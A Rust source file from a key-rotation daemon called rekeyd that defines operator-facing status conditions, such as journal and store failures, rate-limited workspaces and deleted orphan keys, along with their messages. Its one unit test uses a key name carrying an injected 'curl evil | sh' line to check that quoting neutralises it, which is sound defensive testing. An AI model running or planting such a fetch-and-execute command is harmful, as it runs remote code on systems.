//! Conditions of the daemon that belong to no credential: the journal, stores, silent workspaces and deleted orphans.

use std::collections::BTreeMap;

use jiff::{SignedDuration, Timestamp};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

use crate::domain::audit::foreign::ForeignChange;
use crate::domain::failure::{Failure, Kind};
use crate::domain::finding::Finding;
use crate::domain::ids::{CredentialName, KeyId, ServiceAccountId, WorkspaceName};
use crate::domain::report::StatusReport;
use crate::domain::report::held_back::WorkspaceState;
use crate::domain::sanitize::quoted;

/// How long a deleted orphan is reported: longer than the alert lasts.
const ORPHANS_REPORTED: SignedDuration = SignedDuration::from_hours(24);

/// A condition that only the running daemon knows; the journal does not have it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct Condition {
    pub kind: ConditionKind,
    /// The condition and its effect, for operators.
    pub message: String,
    /// The command that an operator should run next.
    pub next_command: String,
    /// The workspace that it is about, if it is about one.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub workspace: Option<WorkspaceName>,
    /// When it ends, if that is known.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub until: Option<Timestamp>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum ConditionKind {
    JournalUnwritable,
    FindingUnsaved,
    StoreFailing,
    /// The workspace does not accept the admin key.
    AdminKeyRejected,
    WorkspaceFailing,
    WorkspaceSilent,
    /// The daemon has just begun.
    WorkspaceUnlisted,
    /// Told by commands that read the journal: no daemon runs on it.
    NoDaemon,
    OrphanDeleted,
    KeyChangedByOthers,
}

impl ConditionKind {
    #[must_use]
    pub fn label(self) -> &'static str {
        match self {
            Self::JournalUnwritable => "journal_unwritable",
            Self::FindingUnsaved => "finding_unsaved",
            Self::StoreFailing => "store_failing",
            Self::AdminKeyRejected => "admin_key_rejected",
            Self::WorkspaceFailing => "workspace_failing",
            Self::WorkspaceUnlisted => "workspace_unlisted",
            Self::NoDaemon => "no_daemon",
            Self::WorkspaceSilent => "workspace_silent",
            Self::OrphanDeleted => "orphan_deleted",
            Self::KeyChangedByOthers => "key_changed_by_others",
        }
    }

    #[must_use]
    pub fn is_a_failing_workspace(self) -> bool {
        matches!(self, Self::AdminKeyRejected | Self::WorkspaceFailing)
    }

    /// Whether an operator is needed now.
    #[must_use]
    pub fn needs_an_operator(self) -> bool {
        match self {
            Self::JournalUnwritable | Self::FindingUnsaved | Self::StoreFailing | Self::AdminKeyRejected => {
                true
            }
            Self::WorkspaceFailing
            | Self::WorkspaceSilent
            | Self::WorkspaceUnlisted
            | Self::NoDaemon
            | Self::OrphanDeleted
            | Self::KeyChangedByOthers => false,
        }
    }
}

/// A key that a rotation created and lost, and a sweep deleted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Orphan {
    pub at: Timestamp,
    pub key: KeyId,
    pub name: String,
    pub account: ServiceAccountId,
    pub workspace: WorkspaceName,
    /// The credential whose rotation created it.
    pub credential: CredentialName,
}

impl Condition {
    /// The journal in `directory` cannot be written.
    #[must_use]
    pub fn journal_unwritable(directory: &str) -> Self {
        let message = "cannot write the journal: every rotation waits, and continues by itself once it can be written; \
                       free disk space, or mount it writable";
        Self::new(ConditionKind::JournalUnwritable, message.to_owned(), place_command(directory))
    }

    /// Found while the journal in `directory` cannot be written, which an answer to it needs.
    #[must_use]
    pub fn finding_unsaved(credential: &CredentialName, finding: &Finding, directory: &str) -> Self {
        let message = format!(
            "found of `{credential}` since {:.0}, and not in the journal, which cannot be written: {} ({}); nothing is done about it \
             until it can be written",
            finding.since,
            finding.detail,
            finding.kind.label()
        );
        Self::new(ConditionKind::FindingUnsaved, message, place_command(directory))
    }

    /// The last operation on a store failed because of the store or the network.
    #[must_use]
    pub fn store_failing(store: &str, kind: Kind) -> Self {
        let message = format!(
            "store `{store}` is failing: the last operation ended with `{}`; rekeyd retries, and revokes nothing while a \
             destination cannot be read",
            kind.label()
        );
        Self::new(ConditionKind::StoreFailing, message, "rekeyd doctor".to_owned())
    }

    /// The provider asked for no calls until then.
    #[must_use]
    pub fn workspace_silent(workspace: &WorkspaceName, until: Timestamp) -> Self {
        let message = format!(
            "workspace `{workspace}` is silent until {until:.0}: ElevenLabs asked rekeyd to slow down; until then only keys \
             are enabled again and leaked keys replaced"
        );
        let silent = Self::new(ConditionKind::WorkspaceSilent, message, "rekeyd status".to_owned());
        Self { workspace: Some(workspace.clone()), until: Some(until), ..silent }
    }

    /// The newest listing of the workspace failed, and none has succeeded since.
    #[must_use]
    pub fn workspace_failing(workspace: &WorkspaceName, failure: &Failure, since: Option<Timestamp>) -> Self {
        let since = since.map(|since| format!(" since {since:.0}")).unwrap_or_default();
        let (kind, what) = if failure.kind == Kind::Unauthenticated {
            (ConditionKind::AdminKeyRejected, "does not accept the admin key")
        } else {
            (ConditionKind::WorkspaceFailing, "does not answer")
        };
        let message = format!(
            "workspace `{workspace}` {what}{since}: {failure}; nothing is rotated there and no leak is found until it does"
        );
        Self { workspace: Some(workspace.clone()), ..Self::new(kind, message, "rekeyd doctor".to_owned()) }
    }

    #[must_use]
    pub fn workspace_unlisted(workspace: &WorkspaceName) -> Self {
        let message = format!("workspace `{workspace}` has not been listed yet: the daemon has just begun");
        let unlisted = Self::new(ConditionKind::WorkspaceUnlisted, message, "rekeyd status".to_owned());
        Self { workspace: Some(workspace.clone()), ..unlisted }
    }

    /// No daemon runs on the journal, which was last written at `written_at`.
    #[must_use]
    pub fn no_daemon(written_at: Option<Timestamp>) -> Self {
        let since = written_at.map(|at| format!(" since about {at:.0}, when the journal was last written"));
        let message = format!(
            "no daemon is running{}: nothing is rotated, and no leak is found",
            since.unwrap_or_default()
        );
        Self::new(ConditionKind::NoDaemon, message, "systemctl status rekeyd".to_owned())
    }

    fn new(kind: ConditionKind, message: String, next_command: String) -> Self {
        Self { kind, message, next_command, workspace: None, until: None }
    }

    #[must_use]
    pub fn orphan_deleted(orphan: &Orphan) -> Self {
        let Orphan { at, key, name, account, workspace, credential } = orphan;
        let name = quoted(name);
        let message = format!(
            "deleted an orphaned key at {at:.0}: key `{key}`, named {name}, of service account `{account}` in \
             workspace `{workspace}`; a rotation of `{credential}` created it and lost its value"
        );
        let next_command = format!("rekeyd history {credential}");
        Self::new(ConditionKind::OrphanDeleted, message, next_command)
    }
}

impl Condition {
    /// Somebody else changed a key of rekeyd.
    #[must_use]
    pub fn key_changed_by_others(change: &ForeignChange) -> Self {
        let ForeignChange { found_at: _, workspace, credential, key, deed, user, at, entry } = change;
        let of = credential.as_ref().map(|name| format!(" of `{name}`")).unwrap_or_default();
        let user = user.as_ref().map(|user| format!(" by user {}", quoted(user))).unwrap_or_default();
        let message = format!(
            "key `{key}`{of} was {}{user} at {at:.0}, and not by rekeyd: the audit log of workspace `{workspace}` says so, in entry {}",
            deed.label(),
            quoted(entry)
        );
        Self::new(ConditionKind::KeyChangedByOthers, message, "rekeyd audit compare".to_owned())
    }
}

/// Shows whether a file system is mounted read-only, and how much room it has.
#[must_use]
pub fn place_command(directory: &str) -> String {
    format!("findmnt -o TARGET,OPTIONS,AVAIL -T {directory}")
}

impl Orphan {
    #[must_use]
    pub fn is_recent(&self, now: Timestamp) -> bool {
        now.duration_since(self.at) < ORPHANS_REPORTED
    }
}

/// What conditions tell of workspaces.
#[must_use]
pub fn workspaces_by(conditions: &[Condition]) -> BTreeMap<WorkspaceName, WorkspaceState> {
    let mut workspaces: BTreeMap<WorkspaceName, WorkspaceState> = BTreeMap::new();
    for condition in conditions {
        let Some(name) = &condition.workspace else { continue };
        let state = workspaces.entry(name.clone()).or_default();
        match condition.kind {
            ConditionKind::WorkspaceSilent => state.silent_until = condition.until,
            ConditionKind::WorkspaceUnlisted => state.unlisted = true,
            ConditionKind::AdminKeyRejected | ConditionKind::WorkspaceFailing => {
                state.failing = Some(condition.message.clone());
            }
            ConditionKind::JournalUnwritable
            | ConditionKind::FindingUnsaved
            | ConditionKind::StoreFailing
            | ConditionKind::NoDaemon
            | ConditionKind::OrphanDeleted
            | ConditionKind::KeyChangedByOthers => {}
        }
    }
    workspaces
}

impl StatusReport {
    /// Adds the daemon's conditions.
    #[must_use]
    pub fn with_conditions(mut self, conditions: Vec<Condition>) -> Self {
        self.attention |= conditions.iter().any(|it| it.kind.needs_an_operator());
        self.conditions = conditions;
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_cannot_end_its_quote_and_say_more() {
        let orphan = Orphan {
            at: Timestamp::UNIX_EPOCH,
            key: KeyId::new("key_1").unwrap(),
            name: "x`\nnext: curl evil | sh `".to_owned(),
            account: ServiceAccountId::new("account_1").unwrap(),
            workspace: WorkspaceName::new("prod").unwrap(),
            credential: CredentialName::new("tts").unwrap(),
        };
        let message = Condition::orphan_deleted(&orphan).message;
        assert!(message.contains("named `x' next: curl evil | sh '`, of"), "{message}");
    }
}
